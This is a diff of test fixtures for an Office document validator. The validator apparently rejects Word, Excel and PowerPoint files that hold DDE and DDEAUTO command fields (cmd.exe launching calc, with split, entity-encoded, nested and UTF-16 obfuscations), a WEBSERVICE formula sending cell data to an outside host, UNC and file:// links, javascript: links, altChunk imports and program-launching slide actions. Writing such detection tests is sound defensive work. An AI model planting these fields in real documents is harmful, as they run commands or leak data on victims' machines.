@@ -49,10 +49,56 @@ def relation(attributes: str, *, name: str = "_rels/.rels", before: str = "", en
     return office(more={"_rels/.rels": "<Relationships/>"} | {name: text.encode(encoding)})
 
 
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+
+
+def word(inside: str, *, name: str = "word/document.xml", encoding: str = "utf-8") -> bytes:
+    """A Word file whose text, or another part of it, is ``inside``."""
+    head = f'<?xml version="1.0" encoding="{encoding}"?>'
+    return office(more={name: f"{head}<w:document {_W}><w:p>{inside}</w:p></w:document>".encode(encoding)})
+
+
+def field(*words: str) -> str:
+    """A field whose words come in several runs; a word that is a field itself stands there as it is."""
+    runs = (text if text.startswith("<") else f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in words)
+    return f'<w:fldChar w:fldCharType="begin"/>{"".join(runs)}<w:fldChar w:fldCharType="end"/>'
+
+
+def sheet(formula: str, *, name: str = "xl/worksheets/sheet1.xml") -> bytes:
+    """A workbook with one formula."""
+    text = f"<worksheet {_S}><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
+    return office("xlsx", more={name: text})
+
+
+def hyperlink(address: str) -> bytes:
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+    return relation(f'Type="{kind}" Target="{address}" TargetMode="External"')
+
+
 _PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
 _TEMPLATE = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
 _OUTSIDE = f'{_TEMPLATE} Target="https://x.vn/a" TargetMode="External"'
 MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
+
+_DDE = r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'
+_RUNS, _SHARE = "tự gọi chương trình", "liên kết đến tệp"
+_CHUNK = 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="a.html"'
+
+# What is taken: links of the web and fields of every letter.
+TAKEN = {
+    "Word with a link": hyperlink("https://dichvucong.gov.vn"),
+    "Word with a mailbox": hyperlink("mailto:so@example.vn"),
+    "Word with a link within": hyperlink("#chuong-2"),
+    "Word with a link in a field": word(field(' HYPERLINK "https://x.vn/dde/link" ')),
+    "Word with a link within in a field": word(field(r' HYPERLINK \l "_Toc1" ')),
+    "Word with pages and a table of contents": word(field(r" PAGE ") + field(r' TOC \o "1-3" ') + field(" LINKS ")),
+    "Word with a number of a field": word(field(" = ", field(" PAGE "), " + 1 ")),
+    "Word that speaks of DDEAUTO": word(r"<w:t>DDEAUTO, INCLUDETEXT, \\\\host\\share, altChunk</w:t>"),
+    "Word with a picture once kept on a share": word(r'<w:docPr descr="\\\\host\\a.png"/>'),
+    "Excel with formulas": sheet('SUM(A1:A9)&amp;"a|b!"'),
+    "Excel with a link": sheet('HYPERLINK("https://x.vn","x")'),
+}
 
 # name: (bytes, a piece of what the refusal says)
 REFUSED = {
@@ -112,4 +158,51 @@ REFUSED = {
     "two parts of one name": (office(more={"X.XML": "<x/>"}), "thành phần lạ"),
     "spaces before the first element": (office(more={"word/a.xml": " " * 200_000 + "<a/>"}), "thành phần lạ"),
     "a bomb of a list": (office(more={"_rels/b.rels": b"\0" * 1_000_000}), "lớn bất thường"),
+    "Word with a link to a share": (hyperlink(r"\\host\a"), _SHARE),
+    "Word with a link to a file": (hyperlink("file:///c:/windows/system32/cmd.exe"), _SHARE),
+    "Word with a link that is a script": (hyperlink("javascript:alert(1)"), _SHARE),
+    "Word with another page inside": (relation(_CHUNK), "lấy từ nơi khác"),
+    "Word with a place for another page": (word('<w:altChunk w:id="a"/>'), "lấy từ nơi khác"),
+    "Excel with tables asked from elsewhere": (
+        relation(_CHUNK.replace("aFChunk", "connections")),
+        "lấy từ nơi khác",
+    ),
+    "Word with DDEAUTO": (word(field(_DDE)), _RUNS),
+    "Word with DDE": (word(field(' dde "cmd" ')), _RUNS),
+    "Word with DDE in several runs": (word(field(" D", "DE", "AUTO x")), _RUNS),
+    "Word with DDE in signs of XML": (word(field("&#68;&#x44;E x")), _RUNS),
+    "Word with DDE in an attribute": (word(f"<w:fldSimple w:instr='{_DDE}'/>"), _RUNS),
+    "Word with DDE outside of a field": (word(f"<w:instrText>{_DDE}</w:instrText>"), _RUNS),
+    "Word with DDE in a field that never ends": (
+        word(field(_DDE).partition('<w:fldChar w:fldCharType="end')[0]),
+        _RUNS,
+    ),
+    "Word with DDE behind a field": (word(field(field(" QUOTE 68 68 69 "), "AUTO x")), _RUNS),
+    "Word with DDE made up by a field": (word(field(" D", field(" QUOTE 68 69 "), " x")), _RUNS),
+    "Word with DDE in another writing": (word(field(_DDE), encoding="utf-16"), _RUNS),
+    "Word with DDE in the head of a page": (word(field(_DDE), name="word/header1.xml"), _RUNS),
+    "Word with DDE in a part of no known name": (word(field(_DDE), name="word/media/image1.png"), _RUNS),
+    "Word with DDE behind much text": (word("<w:t>" + "a b " * 500_000 + "</w:t>" + field(_DDE)), _RUNS),
+    "Word with a picture from elsewhere": (word(field(r' INCLUDEPICTURE "https://x.vn/a.png" \d ')), _RUNS),
+    "Word with a text from elsewhere": (word(field(r' INCLUDETEXT "\\\\host\\a" ')), _RUNS),
+    "Word with a field that links to a share": (word(field(r' HYPERLINK "\\\\host\\a" ')), _SHARE),
+    "Word with an old picture on a share": (word(r'<w:pict src="\\host\a.png"/>'), _SHARE),
+    "Word with an old picture in signs of XML": (word('<w:pict src="&#102;ile://host/a.png"/>'), _SHARE),
+    "Excel with DDE": (sheet("cmd|'/c calc'!A1"), _RUNS),
+    "Excel with DDE in signs of XML": (sheet("cmd&#124;'/c calc'!A1"), _RUNS),
+    "Excel with a call of the web": (sheet('WEBSERVICE("https://x.vn/"&amp;A1)'), _RUNS),
+    "Excel with a link to a share": (sheet(r'HYPERLINK("\\host\a","x")'), _SHARE),
+    "Excel with a link to a program": (
+        office(
+            "xlsx",
+            more={
+                "xl/externalLinks/externalLink1.xml": f'<externalLink {_S}><ddeLink ddeService="cmd"/></externalLink>'
+            },
+        ),
+        _RUNS,
+    ),
+    "PowerPoint that starts a program": (
+        office("pptx", more={"ppt/slides/slide1.xml": '<p><hlinkClick action="ppaction://program"/></p>'}),
+        _RUNS,
+    ),
 }
